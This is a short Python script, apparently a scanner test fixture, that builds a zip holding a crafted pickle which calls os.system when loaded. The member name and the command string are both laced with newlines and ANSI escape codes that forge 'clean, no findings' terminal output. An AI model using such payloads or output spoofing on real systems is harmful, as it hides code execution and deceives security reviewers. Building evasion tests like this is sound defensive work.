import zipfile
# member name carrying newlines + ANSI escapes; payload string carrying the same
evil = b"cos\nsystem\n(S'true\\n\\x1b[2K\\x1b[1A\\x1b[2Kfake.pkl: clean, no findings\\n'\ntR."
with zipfile.ZipFile("mislead_names.zip", "w") as z:
    z.writestr("a\n  OK  nothing found\x1b[31m\x1b[2K\r.pkl", evil)
